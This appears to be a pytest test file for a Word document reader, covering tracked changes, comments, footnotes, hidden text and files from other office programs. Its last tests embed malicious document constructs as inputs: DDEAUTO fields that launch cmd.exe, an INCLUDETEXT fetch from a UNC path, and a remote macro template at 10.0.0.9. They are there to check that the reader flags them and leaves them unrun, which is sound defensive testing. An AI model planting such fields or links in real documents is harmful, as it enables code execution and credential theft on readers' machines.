"""Word documents are read as Word shows them, whoever wrote them; what is left out is said."""

from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docx.shared import Cm
from office import as_word
from word_files import (
    MAIN,
    SPACES,
    STRICT,
    docx,
    family,
    in_list,
    lvl,
    num,
    number_headings,
    p,
    png,
    r,
    style,
    tbl,
    tc,
    tr,
)
from word_read import lines_of, of_everything, only_table, pictures_of, read_body, spans_of

from toolkit.documents.blocks import Paragraph, Prose, Run
from toolkit.documents.word.source import read_word

# What reviewers left behind


def _revised(count: int) -> str:
    return f"有 {count} 处修订还没有定稿：插入的文字已算在内，删去的没有。请在 Word 中接受或拒绝修订后再生成一次。"


def test_tracked_changes() -> None:
    deleted = "<w:del><w:r><w:delText>删</w:delText></w:r><w:r><w:t>删</w:t></w:r></w:del>"
    prose = read_body(
        p("甲", f"<w:ins>{r('增')}</w:ins>", deleted, "乙"),
        p(f"<w:moveFrom>{r('移')}</w:moveFrom>", "丙", f"<w:moveTo>{r('移')}</w:moveTo>"),
        f"<w:ins>{p('块')}</w:ins><w:del>{p('没')}</w:del>",
        p(r("格式", "<w:rPrChange><w:rPr><w:b/></w:rPr></w:rPrChange>")),
    )
    assert prose == Prose(tuple(Paragraph((Run(text),)) for text in ("甲增乙", "丙移", "块", "格式")), (_revised(5),))


def test_inserted_paragraph_is_one_change() -> None:
    mark = "<w:rPr><w:ins/></w:rPr>"
    prose = read_body(p(f"<w:ins>{r('增')}</w:ins>", properties=mark), p("原有", properties=mark))
    assert (lines_of(prose), prose.remarks) == (["增", "原有"], (_revised(2),))


def test_paragraph_whose_end_was_taken_out() -> None:
    """It becomes part of the next one, which says what they are; of a list only the one that is left takes a number."""
    gone = "<w:rPr><w:del/></w:rPr>"
    numbering = family(0, lvl(0, "decimal", "%1.")) + num(1, 0)
    numbered = in_list(1)
    prose = read_body(
        p("甲", properties=numbered + gone),
        p("乙", properties=numbered),
        p("丙", properties=numbered),
        p(f"<w:moveFrom>{r('移')}</w:moveFrom>", properties=numbered + "<w:rPr><w:moveFrom/></w:rPr>"),
        p("丁", properties='<w:outlineLvl w:val="0"/>'),
        p("戊", properties=gone),
        tbl(tr(tc("己"))),
        p(properties=numbered + gone),
        numbering=numbering,
    )
    assert lines_of(prose) == ["1.甲乙", "2.丙", "丁", "戊", "己"]
    assert [block.level for block in prose.blocks if isinstance(block, Paragraph)] == [0, 0, 1, 0]
    assert prose.remarks == (_revised(3),)


def test_rows_taken_out() -> None:
    gone = f"<w:del>{r('删')}</w:del>"
    prose = read_body(tbl(tr(tc("甲")), tr(tc(p(gone)), properties="<w:trPr/>"), tr(tc("乙"), properties="<w:del/>")))
    assert [text for *_, text in spans_of(only_table(prose))] == ["甲", ""]
    assert prose.remarks == (_revised(2),)


def test_comments_and_notes() -> None:
    long = "一二三四五六七八九十" * 4
    comments = (
        f'<w:comment w:id="0" w:author="张三">{p("请核对")}{p("本段数字")}</w:comment>'
        f'<w:comment w:id="1" w:author="李四">{p("其他")}</w:comment>'
    )
    footnotes = (
        f'<w:footnote w:id="-1" w:type="separator">{p()}</w:footnote><w:footnote w:id="2">{p(long)}</w:footnote>'
    )
    prose = read_body(
        p("甲", '<w:commentRangeStart w:id="0"/>', "乙", '<w:r><w:commentReference w:id="0"/></w:r>'),
        p("丙", '<w:r><w:footnoteReference w:id="2"/></w:r>', '<w:r><w:endnoteReference w:id="9"/></w:r>'),
        comments=comments,
        footnotes=footnotes,
    )
    assert lines_of(prose) == ["甲乙", "丙"]
    assert prose.remarks == (
        "有 2 条批注没有写入报告，第一条是“请核对 本段数字”（张三）。",
        f"有 1 条脚注没有写入报告，第一条是“{long[:30]}……”。需要保留的，请写进正文。",
        "有 1 条尾注没有写入报告。需要保留的，请写进正文。",
    )


def test_comment_without_words_or_name() -> None:
    prose = read_body(p("甲"), comments=f'<w:comment w:id="0">{p()}</w:comment>')
    assert prose.remarks == ("有 1 条批注没有写入报告。",)


def test_hidden_text() -> None:
    hidden = "<w:vanish/>"
    styles = style("V", "隐藏", "<w:rPr><w:vanish/></w:rPr>", "character")
    prose = read_body(
        p("甲", r("藏", hidden), r("住", hidden), "乙", r("又藏", '<w:rStyle w:val="V"/>')),
        p(r("不藏", '<w:rStyle w:val="V"/><w:vanish w:val="0"/>')),
        p(r("", hidden)),
        styles=styles,
    )
    assert lines_of(prose) == ["甲乙", "不藏"]
    assert prose.remarks == ("有 2 处隐藏文字没有写入报告。需要写入的，请在 Word 中取消隐藏后再生成一次。",)


# Files of other programs


def test_file_of_python_docx(tmp_path: Path) -> None:
    """Headings with Chinese numbers by their styles, as documents of offices have them."""
    document = Document()
    number_headings(document)
    document.add_heading("年度报告", 0)
    for depth, text in ((1, "总体情况"), (2, "主动公开"), (3, "平台"), (2, "依申请公开"), (1, "问题"), (2, "不足")):
        document.add_heading(text, depth)
    document.add_paragraph("正文").add_run("加粗").bold = True
    image = tmp_path / "foreign" / "a.png"
    image.parent.mkdir()
    image.write_bytes(png())
    document.add_picture(str(image), width=Cm(3))
    table = document.add_table(2, 2)
    table.cell(0, 0).merge(table.cell(1, 0)).text = "合并"
    out = BytesIO()
    document.save(out)
    prose = read_word(out.getvalue())
    assert [(block.text, block.level) for block in prose.blocks if isinstance(block, Paragraph)] == [
        ("年度报告", 0),
        ("一、总体情况", 1),
        ("（一）主动公开", 2),
        ("1.平台", 3),
        ("（二）依申请公开", 2),
        ("二、问题", 1),
        ("（一）不足", 2),
        ("正文加粗", 0),
        ("", 0),
    ]
    assert [(picture.width, picture.height) for picture in pictures_of(prose)] == [(Cm(3), Cm(3))]
    assert spans_of(only_table(prose)) == [(0, 0, 2, 1, "合并"), (0, 1, 1, 1, ""), (1, 1, 1, 1, "")]
    assert prose.remarks == ()


FODT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"
 office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">
<office:automatic-styles>
 <style:style style:name="T1" style:family="text">
  <style:text-properties fo:font-weight="bold" style:font-weight-asian="bold"/></style:style>
 <style:style style:name="T2" style:family="text"><style:text-properties style:text-position="super 58%"/></style:style>
 <text:list-style style:name="L1">
  <text:list-level-style-number text:level="1" style:num-suffix="、" style:num-format="一, 二, 三, ..."/>
  <text:list-level-style-number text:level="2" style:num-prefix="（" style:num-suffix="）"
   style:num-format="一, 二, 三, ..."/>
  <text:list-level-style-number text:level="3" style:num-suffix="." style:num-format="1"/>
 </text:list-style>
</office:automatic-styles>
<office:body><office:text>
<text:h text:outline-level="1">总标题</text:h>
<text:h text:outline-level="2">小标题</text:h>
<text:p>正文<text:span text:style-name="T1">加粗</text:span>m<text:span
  text:style-name="T2">2</text:span>&lt;末&gt;</text:p>
<text:list text:style-name="L1">
 <text:list-item><text:p>甲</text:p>
  <text:list><text:list-item><text:p>甲一</text:p></text:list-item><text:list-item><text:p>甲二</text:p>
   <text:list><text:list-item><text:p>细目</text:p></text:list-item></text:list></text:list-item></text:list>
 </text:list-item>
 <text:list-item><text:p>乙</text:p></text:list-item>
</text:list>
<table:table table:name="t"><table:table-column table:number-columns-repeated="3"/>
 <table:table-header-rows><table:table-row>
  <table:table-cell table:number-columns-spanned="2"><text:p>宽</text:p></table:table-cell>
  <table:covered-table-cell/><table:table-cell table:number-rows-spanned="2"><text:p>高</text:p></table:table-cell>
 </table:table-row></table:table-header-rows>
 <table:table-row><table:table-cell><text:p>左</text:p></table:table-cell>
  <table:table-cell><text:p>中</text:p></table:table-cell><table:covered-table-cell/></table:table-row>
</table:table>
</office:text></office:body></office:document>
"""


@pytest.mark.libreoffice
def test_file_of_libreoffice(tmp_path: Path) -> None:
    source = tmp_path / "foreign" / "text.fodt"
    source.parent.mkdir()
    source.write_text(FODT, encoding="utf-8")
    prose = read_word(as_word(source, source.parent / "word").read_bytes())
    paragraphs = [block for block in prose.blocks if isinstance(block, Paragraph)]
    assert [(block.text, block.level) for block in paragraphs] == [
        ("总标题", 1),
        ("小标题", 2),
        ("正文加粗m2<末>", 0),
        ("一、甲", 0),
        ("（一）甲一", 0),
        ("（二）甲二", 0),
        ("1.细目", 0),
        ("二、乙", 0),
    ]
    assert paragraphs[2].pieces == (
        Run("正文"),
        Run("加粗", bold=True),
        Run("m"),
        Run("2", raised="superscript"),
        Run("<末>"),
    )
    table = only_table(prose)
    assert spans_of(table) == [
        (0, 0, 1, 2, "宽"),
        (0, 2, 2, 1, "高"),
        (1, 0, 1, 1, "左"),
        (1, 1, 1, 1, "中"),
    ]
    assert table.head == 1
    assert prose.remarks == ()


def test_strict_dialect_reads_the_same() -> None:
    assert read_word(docx(**of_everything(), spaces=STRICT)) == read_word(docx(**of_everything()))
    strict = read_body(
        '<w:tbl><w:tblGrid><w:gridCol w:w="72pt"/><w:gridCol w:w="1in"/></w:tblGrid>'
        + tr(tc("甲"), tc("乙"))
        + "</w:tbl>",
        spaces=STRICT,
    )
    assert only_table(strict).widths == (1440.0, 1440.0)


@pytest.mark.parametrize(
    "main_type",
    [
        MAIN,
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    ],
)
def test_kinds_of_word_documents(main_type: str) -> None:
    assert lines_of(read_body(p("字"), main_type=main_type)) == ["字"]


def test_what_reaches_outside_is_told_and_left_there() -> None:
    field = "".join(
        f"<w:r>{inside}</w:r>"
        for inside in (
            '<w:fldChar w:fldCharType="begin"/>',
            '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>',
            '<w:fldChar w:fldCharType="separate"/>',
            "<w:t>见附件</w:t>",
            '<w:fldChar w:fldCharType="end"/>',
        )
    )
    simple = f'<w:fldSimple w:instr="DDE cmd">{r("等")}</w:fldSimple>'
    kind = f"{SPACES['r']}/attachedTemplate"
    link = f'<Relationship Id="rId1" Type="{kind}" Target="http://10.0.0.9/x.dotm" TargetMode="External"/>'
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}</Relationships>'
    prose = read_body(p(r("正文"), field, simple), replaced={"word/_rels/settings.xml.rels": rels.encode()})
    assert lines_of(prose) == ["正文见附件等"]
    assert [remark.partition("（")[0] for remark in prose.remarks] == [
        "有 2 处调用其他程序的域",
        "有 1 处引用外部的文件或网址",
    ]


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (_mark("begin") + _code('QUOTE "DDEAUTO"') + _mark("end") + _code(" c:\\cmd.exe"), "调用其他程序的域"),
        (_code('INCLUDETEXT "\\\\10.0.0.9\\x.docx"'), "引用外部的文件或网址"),
    ],
)
def test_fields_whose_name_another_tells_and_that_fetch(code: str, words: str) -> None:
    prose = read_body(p(_mark("begin"), code, _mark("separate"), r("字"), _mark("end")))
    assert lines_of(prose) == ["字"]
    assert [words in remark for remark in prose.remarks] == [True]


def test_a_program_in_a_header_is_told() -> None:
    header = f'<w:hdr xmlns:w="{SPACES["w"]}"><w:p>{_code(" DDEAUTO c:/cmd.exe ")}</w:p></w:hdr>'
    prose = read_body(p(r("字")), replaced={"word/header1.xml": header.encode()})
    assert ["调用其他程序的域" in remark for remark in prose.remarks] == [True]
